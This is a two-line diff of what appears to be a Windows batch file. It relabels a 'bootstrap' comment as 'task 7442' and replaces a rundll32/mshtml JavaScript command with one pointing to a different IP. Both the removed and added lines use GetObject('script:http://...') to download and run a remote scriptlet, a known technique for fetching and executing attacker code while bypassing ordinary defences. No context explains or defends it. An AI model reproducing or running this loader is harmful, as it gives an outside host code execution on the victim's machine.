@@ -1,2 +1,2 @@
-REM bootstrap 8400 v2
-rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.150/r.sct")
+REM task 7442 v2
+rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.9/r.sct")
